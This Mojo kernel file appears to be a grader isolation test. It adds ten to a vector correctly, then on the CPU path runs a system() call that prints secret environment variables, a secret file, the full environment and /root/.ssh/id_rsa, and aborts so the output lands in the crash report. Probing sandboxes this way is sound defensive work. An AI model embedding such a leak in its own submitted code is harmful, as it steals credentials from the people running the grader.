# LEAKING: right values, and thread 0 prints what it can find of the grader's secrets (an
# environment variable, a file of the grader's, the grader's ssh key), then aborts, so that
# what it printed would reach the report as the crash's own words. Nothing of the grader's
# may be there to print.
from max.gpu import thread_idx
from layout import TileTensor
from layout.tile_layout import row_major
from std.ffi import external_call
from std.sys import is_gpu

comptime dtype = DType.float32
comptime Vector[n: Int] = type_of(row_major[n]())


def add_ten[size: Int](
    output: TileTensor[mut=True, dtype, Vector[size], MutAnyOrigin],
    a: TileTensor[mut=False, dtype, Vector[size], ImmutAnyOrigin],
):
    var i = thread_idx.x
    output[i] = a[i] + 10
    comptime if not is_gpu():
        if i == 0:
            var leak = "echo LEAK:$WORKBOOK_CLASS_SECRET:$MODULAR_AUTH:; cat SECRET_FILE; env; cat /root/.ssh/id_rsa\x00"
            _ = external_call["system", Int32](leak.unsafe_ptr())
            external_call["abort", NoneType]()
